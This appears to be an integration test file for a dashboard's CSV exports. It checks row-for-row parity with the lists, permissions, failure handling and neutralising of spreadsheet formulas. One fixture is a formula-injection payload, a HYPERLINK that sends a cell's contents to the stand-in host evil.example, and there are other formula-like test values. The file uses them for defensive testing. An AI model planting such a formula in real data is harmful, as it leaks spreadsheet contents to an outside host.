/**
 * CSV exports of the lists (issue 27 item 1, issue 31 item 2; docs/dashboard-api.md, "Exports (CSV)"): each file has
 * every row the list shows with the same filters, in the list's order, walked page by page here and compared cell
 * by cell; the dashboard's policy (a viewer may export, another workspace's program is 404) and the operator's
 * route; formula injection neutralised; a failure after the first byte breaks the download off; more rows than one
 * batch; and the same files through a second gateway over a real nats-server (NATS_URL).
 */
import { randomBytes } from "node:crypto";
import { parse } from "csv-parse/sync";
import type { Context, Middleware } from "moleculer";
import { COMMISSIONS_CSV, WITHDRAWALS_CSV } from "../../services/commissions/export";
import { PARTNERS_CSV, type PartnerExportRow } from "../../services/programs/export";
import { SALES_CSV } from "../../services/sales/export";
import type { CsvCell, CsvLayout, ExportBatch } from "../../shared/csv-export";
import { transporterFromEnv } from "../../shared/nats-transporter";
import { ADMIN_TOKEN, startSystem, type Bootstrap, type TestSystem } from "../support/system";
import { attributedSale, refund, uniqueId } from "../support/tracking";

let sys: TestSystem;
let cookie: string;
let viewerCookie: string;
let outsiderCookie: string;
let boot: Bootstrap;
let tricky: Bootstrap;
let otherProgramId: number;

/** A partner name and a transaction id a spreadsheet would run as formulas. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const FORMULA_TRANSACTION = "+1-1";

/** The program whose sales export fails after its first batch (the failure test). */
let failingProgram = 0;

/**
 * For the failure test: `sales.export` of `failingProgram` answers its first batch with a next cursor (as if more
 * rows followed) and fails the next call, as a database lost in the middle of an export would.
 */
const failingExports: Middleware = {
  localAction(next: (ctx: Context) => Promise<unknown>, action: { name?: string }) {
    if (action.name !== "sales.export") return next;
    return async (ctx: Context) => {
      const params = ctx.params as { programId?: unknown; cursor?: unknown };
      if (String(params.programId) !== String(failingProgram)) return next(ctx);
      // Later than the first rows reach the client.
      if (params.cursor) return new Promise((_resolve, reject) => setTimeout(() => reject(new Error("database lost (test)")), 300));
      const batch = (await next(ctx)) as ExportBatch;
      return { ...batch, nextCursor: Buffer.from("2026-01-01T00:00:00.000Z|1").toString("base64url") };
    };
  },
};

beforeAll(async () => {
  sys = await startSystem({ broker: { middlewares: [failingExports] }, env: { RATE_LIMIT_PER_MINUTE: "100000" } });
  const owner = await sys.dashboardUser("owner");
  cookie = await sys.login(owner.email, owner.password);
  const viewer = await sys.dashboardUser("viewer", owner.workspaceId);
  viewerCookie = await sys.login(viewer.email, viewer.password);
  const outsider = await sys.dashboardUser("owner");
  outsiderCookie = await sys.login(outsider.email, outsider.password);
  otherProgramId = (await sys.bootstrap({ workspaceId: outsider.workspaceId })).programId;

  boot = await sys.bootstrap({ workspaceId: owner.workspaceId, holdDays: 0 });
  const { partner, enrollment } = await sys.admin("POST", `/programs/${boot.programId}/partners`, { name: FORMULA_NAME, email: "tricky@example.com" });
  tricky = { ...boot, partnerId: partner.id, referralCode: enrollment.referralCode };
  await sys.admin("POST", `/programs/${boot.programId}/partners`, { name: "@Pending Person", email: "pending@example.com" });

  // 4 sales through partner one, 2 through the tricky partner (one with a formula as transaction id), a test sale, an unattributed one.
  const transactions: string[] = [];
  for (let i = 0; i < 4; i++) transactions.push((await attributedSale(sys, boot, { amountCents: 1000 * (i + 1) })).transactionId);
  transactions.push((await attributedSale(sys, tricky, { amountCents: 5000, transactionId: FORMULA_TRANSACTION })).transactionId);
  transactions.push((await attributedSale(sys, tricky, { amountCents: 7000 })).transactionId);
  await attributedSale(sys, boot, { testMode: true });
  const walkIn = await sys.http("POST", "/api/v1/track/sale", { key: boot.apiKey, body: { transaction_id: uniqueId("walk-in"), amount_cents: 700, email: "walk-in@example.com" } });
  expect(walkIn.status).toBe(200);
  // A partial and a full refund; then credit (hold 0) and withdrawals, one of them paid.
  expect((await refund(sys, boot.apiKey, { transaction_id: transactions[0], refund_amount_cents: 300, refund_id: "re_1", refund_reason: "-damaged" })).status).toBe(200);
  expect((await refund(sys, boot.apiKey, { transaction_id: transactions[5] })).status).toBe(200);
  await sys.admin("POST", "/commissions/approve-due", { programId: boot.programId });
  const paid = await sys.admin("POST", `/programs/${boot.programId}/partners/${boot.partnerId}/withdrawals`, { amountCents: 100 });
  await sys.admin("POST", `/withdrawals/${paid.id}/pay`);
  await sys.admin("POST", `/programs/${boot.programId}/partners/${boot.partnerId}/withdrawals`, { amountCents: 50 });
  await sys.admin("POST", `/programs/${boot.programId}/partners/${tricky.partnerId}/withdrawals`, { amountCents: 10 });
}, 120_000);
afterAll(() => sys?.stop());

const dash = (path: string, c = cookie) => sys.http("GET", path, { headers: { Cookie: c } });
const op = (path: string) => sys.http("GET", path, { key: ADMIN_TOKEN });

/** Every row of a list, page by page (2 rows a page, so the walk crosses pages), from `cursor` when given. */
async function listAll(get: (path: string) => Promise<{ status: number; body: any }>, path: string, from: string | null = null): Promise<any[]> {
  const rows: any[] = [];
  let cursor = from;
  for (let pages = 0; pages < 500; pages++) {
    const sep = path.includes("?") ? "&" : "?";
    const res = await get(`${path}${sep}limit=2${cursor ? `&cursor=${cursor}` : ""}`);
    expect([path, res.status]).toEqual([path, 200]);
    rows.push(...res.body.data);
    cursor = res.body.nextCursor;
    if (!cursor) return rows;
  }
  throw new Error(`${path}: too many pages`);
}

/** A cell as the file must show it: empty for null, true/false, numbers as they are, formulas prefixed with '. */
function expectedCell(value: CsvCell): string {
  if (value === null) return "";
  if (typeof value !== "string") return String(value);
  return /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value;
}

/** How a download authenticates: the dashboard's session cookie, or the operator's token. */
type Caller = { cookie: string } | { operator: true };
const session = (c = cookie): Caller => ({ cookie: c });
const OPERATOR: Caller = { operator: true };

/** Downloads a CSV (its bytes as sent) and parses it (header row first); checks the headers and the file's framing. */
async function download(path: string, what: string, opts: { caller?: Caller; programId?: number; baseUrl?: string } = {}): Promise<string[][]> {
  const caller = opts.caller ?? session();
  const headers: Record<string, string> = "cookie" in caller ? { Cookie: caller.cookie } : { Authorization: `Bearer ${ADMIN_TOKEN}` };
  const res = await fetch(`${opts.baseUrl ?? sys.baseUrl}${path}`, { headers });
  const bytes = Buffer.from(await res.arrayBuffer());
  expect([path, res.status]).toEqual([path, 200]);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  const day = new Date().toISOString().slice(0, 10);
  expect(res.headers.get("content-disposition")).toBe(`attachment; filename="program-${opts.programId ?? boot.programId}-${what}-${day}.csv"`);
  expect(res.headers.get("cache-control")).toBe("no-store");
  // UTF-8 with a byte order mark (spreadsheets then read it as UTF-8); records end in CRLF.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString("utf8");
  expect(text.endsWith("\r\n")).toBe(true);
  return parse(text, { bom: true, record_delimiter: "\r\n" }) as string[][];
}

/** The file is exactly the list: its header, then each row of the list in order, cell by cell. */
function expectSame<T>(file: string[][], layout: CsvLayout<T>, rows: T[]) {
  expect(file[0]).toEqual(layout.columns);
  expect(file.slice(1)).toEqual(rows.map((row) => layout.row(row).map(expectedCell)));
}

describe("the files hold every row the list shows with the same filters", () => {
  test.each([
    ["sales", "", SALES_CSV],
    ["sales", "?test=false", SALES_CSV],
    ["sales", "?attributed=true&partnerId=TRICKY", SALES_CSV],
    ["commissions", "", COMMISSIONS_CSV],
    ["commissions", "?status=approved", COMMISSIONS_CSV],
    ["commissions", "?partnerId=TRICKY&from=2020-01-01", COMMISSIONS_CSV],
    ["withdrawals", "", WITHDRAWALS_CSV],
    ["withdrawals", "?status=open", WITHDRAWALS_CSV],
  ] as Array<[string, string, CsvLayout<any>]>)("%s.csv%s", async (what, query, layout) => {
    const q = query.replace("TRICKY", String(tricky.partnerId));
    const base = `/api/programs/${boot.programId}/${what}`;
    const rows = await listAll(dash, `${base}${q}`);
    expect(rows.length).toBeGreaterThan(0);
    expectSame(await download(`${base}.csv${q}`, what), layout, rows);
    // The operator's route answers the same file.
    expectSame(await download(`/api/admin/programs/${boot.programId}/${what}.csv${q}`, what, { caller: OPERATOR }), layout, rows);
  });

  test.each(["", "?status=approved", "?status=pending"])("partners.csv%s", async (query) => {
    const base = `/api/programs/${boot.programId}/partners`;
    const rows = (await listAll(dash, `${base}${query}`)).map((row): PartnerExportRow => ({ ...row, currency: "usd" }));
    expectSame(await download(`${base}.csv${query}`, "partners"), PARTNERS_CSV, rows);
  });

  test("a filter that matches nothing gives the header alone", async () => {
    const file = await download(`/api/programs/${boot.programId}/withdrawals.csv?status=cancelled`, "withdrawals");
    expect(file).toEqual([WITHDRAWALS_CSV.columns]);
  });

  test("a cursor of the list starts the file after that row", async () => {
    const first = await dash(`/api/programs/${boot.programId}/sales?limit=3`);
    const rest = await listAll(dash, `/api/programs/${boot.programId}/sales`, first.body.nextCursor);
    expect(rest.length).toBeGreaterThan(0);
    const file = await download(`/api/programs/${boot.programId}/sales.csv?cursor=${first.body.nextCursor}`, "sales");
    expect(file.slice(1).map((r) => Number(r[0]))).toEqual(rest.map((r) => r.id));
  });
});

describe("the cells", () => {
  test("money is integer minor units with the currency beside it; dates are ISO 8601 UTC; yes/no is true or false", async () => {
    const [header, ...rows] = await download(`/api/programs/${boot.programId}/sales.csv`, "sales");
    const at = (name: string) => header.indexOf(name);
    for (const row of rows) {
      expect(row[at("amount_cents")]).toMatch(/^[1-9][0-9]*$/);
      expect(row[at("currency")]).toBe("usd");
      expect(row[at("created_at")]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
      expect(["true", "false"]).toContain(row[at("test")]);
    }
    expect(rows.map((r) => r[at("amount_cents")])).toEqual(expect.arrayContaining(["1000", "5000", "7000", "700"]));
  });

  test("text a spreadsheet would run as a formula comes out prefixed with an apostrophe", async () => {
    const partners = await download(`/api/programs/${boot.programId}/partners.csv`, "partners");
    const names = partners.slice(1).map((r) => r[partners[0].indexOf("name")]);
    expect(names).toEqual(expect.arrayContaining([`'${FORMULA_NAME}`, "'@Pending Person", "Partner One"]));
    const sales = await download(`/api/programs/${boot.programId}/sales.csv`, "sales");
    expect(sales.slice(1).map((r) => r[sales[0].indexOf("transaction_id")])).toContain(`'${FORMULA_TRANSACTION}`);
    const commissions = await download(`/api/programs/${boot.programId}/commissions.csv`, "commissions");
    expect(commissions.slice(1).map((r) => r[commissions[0].indexOf("reason")])).toContain("'-damaged");
  });
});

describe("who may export", () => {
  test("a viewer (programs:read) can", async () => {
    const res = await dash(`/api/programs/${boot.programId}/commissions.csv`, viewerCookie);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  });

  test("another workspace's program is 404, as an unknown one; no session is 401; the operator's unknown program is 404", async () => {
    for (const what of ["sales", "commissions", "withdrawals", "partners"]) {
      const other = await dash(`/api/programs/${otherProgramId}/${what}.csv`);
      expect({ what, status: other.status, code: other.body?.error?.code }).toEqual({ what, status: 404, code: "not_found" });
      expect((await dash(`/api/programs/${boot.programId}/${what}.csv`, outsiderCookie)).status).toBe(404);
      expect((await sys.http("GET", `/api/programs/${boot.programId}/${what}.csv`)).status).toBe(401);
      expect((await op(`/api/admin/programs/999999/${what}.csv`)).status).toBe(404);
    }
  });

  test("a bad filter is a 400 in JSON, before any byte of the file", async () => {
    const res = await dash(`/api/programs/${boot.programId}/commissions.csv?status=lost`);
    expect(res.status).toBe(400);
    expect(res.headers.get("content-type")).toMatch(/^application\/json/);
    expect(res.body.error).toMatchObject({ code: "invalid_request", message: expect.stringContaining("'status'") });
    const limit = await dash(`/api/programs/${boot.programId}/sales.csv?limit=5`);
    expect(limit.status).toBe(400);
    expect(limit.body.error.message).toContain("'limit'");
  });
});

describe("longer than a batch, and failures", () => {
  test("more rows than one batch: every row once, in the list's order", async () => {
    // Partners are exported 100 a batch: 230 more make three batches.
    const program = await sys.bootstrap();
    for (let i = 0; i < 230; i++) await sys.admin("POST", `/programs/${program.programId}/partners`, { name: `Bulk ${i}` });
    const rows = await listAll(op, `/api/admin/programs/${program.programId}/partners`);
    expect(rows).toHaveLength(231);
    const file = await download(`/api/admin/programs/${program.programId}/partners.csv`, "partners", { caller: OPERATOR, programId: program.programId });
    expectSame(
      file,
      PARTNERS_CSV,
      rows.map((row) => ({ ...row, currency: "usd" })),
    );
  }, 60_000);

  test("sales: more than one batch (250 rows), each row once, in the list's order", async () => {
    const program = await sys.bootstrap();
    for (let i = 0; i < 260; i++) {
      const res = await sys.http("POST", "/api/v1/track/sale", { key: program.apiKey, body: { transaction_id: `bulk-${i}`, amount_cents: 100 + i } });
      expect(res.status).toBe(200);
    }
    const rows = await listAll(op, `/api/admin/sales?programId=${program.programId}`);
    expect(rows).toHaveLength(260);
    const file = await download(`/api/admin/programs/${program.programId}/sales.csv`, "sales", { caller: OPERATOR, programId: program.programId });
    expectSame(file, SALES_CSV, rows);
  }, 60_000);

  test("a failure after the file started breaks the connection: the download is incomplete, never a whole-looking file", async () => {
    const program = await sys.bootstrap();
    await attributedSale(sys, program, { amountCents: 1234 });
    failingProgram = program.programId;
    const res = await fetch(`${sys.baseUrl}/api/admin/programs/${program.programId}/sales.csv`, { headers: { Authorization: `Bearer ${ADMIN_TOKEN}` } });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    await expect(res.text()).rejects.toThrow();
    // The gateway still answers.
    expect((await op(`/api/admin/programs/${boot.programId}/sales.csv`)).status).toBe(200);
  });
});

const NATS_URL = process.env.NATS_URL;
if (!NATS_URL) console.warn("CSV EXPORTS OVER NATS SKIPPED: NATS_URL is not set; the export was NOT tested with its batches crossing a real transporter in this run.");
const describeNats = NATS_URL ? describe : describe.skip;

describeNats("through a second gateway whose batches cross a real nats-server", () => {
  let services: TestSystem;
  let gateway: TestSystem;
  let program: Bootstrap;
  let natsCookie: string;

  beforeAll(async () => {
    const namespace = `exports-${randomBytes(4).toString("hex")}`;
    services = await startSystem({ env: { RATE_LIMIT_PER_MINUTE: "100000" }, broker: { transporter: transporterFromEnv(NATS_URL), namespace, nodeID: `${namespace}-services` } });
    gateway = await startSystem({ services: ["gateway"], broker: { transporter: transporterFromEnv(NATS_URL), namespace, nodeID: `${namespace}-gateway` } });
    await gateway.broker.waitForServices(["accounts", "programs", "sales", "commissions", "attribution"], 20_000);
    const owner = await services.dashboardUser("owner");
    natsCookie = await gateway.login(owner.email, owner.password);
    program = await services.bootstrap({ workspaceId: owner.workspaceId, holdDays: 0 });
    for (let i = 0; i < 3; i++) await attributedSale(services, program, { amountCents: 2000 + i });
    for (let i = 0; i < 150; i++) await services.admin("POST", `/programs/${program.programId}/partners`, { name: i % 50 ? `Partner ${i}` : `=SUM(A${i})` });
  }, 120_000);
  afterAll(async () => {
    await gateway?.stop();
    await services?.stop();
  });

  test.each([
    ["sales", SALES_CSV],
    ["partners", PARTNERS_CSV],
  ] as Array<[string, CsvLayout<any>]>)("%s.csv is the same file as the list, whichever gateway", async (what, layout) => {
    const get = (path: string) => gateway.http("GET", path, { headers: { Cookie: natsCookie } });
    const rows = (await listAll(get, `/api/programs/${program.programId}/${what}`)).map((row) => (what === "partners" ? { ...row, currency: "usd" } : row));
    const file = await download(`/api/programs/${program.programId}/${what}.csv`, what, { caller: session(natsCookie), programId: program.programId, baseUrl: gateway.baseUrl });
    expectSame(file, layout, rows);
    const local = await download(`/api/admin/programs/${program.programId}/${what}.csv`, what, { caller: OPERATOR, programId: program.programId, baseUrl: services.baseUrl });
    expect(local).toEqual(file);
  });
});
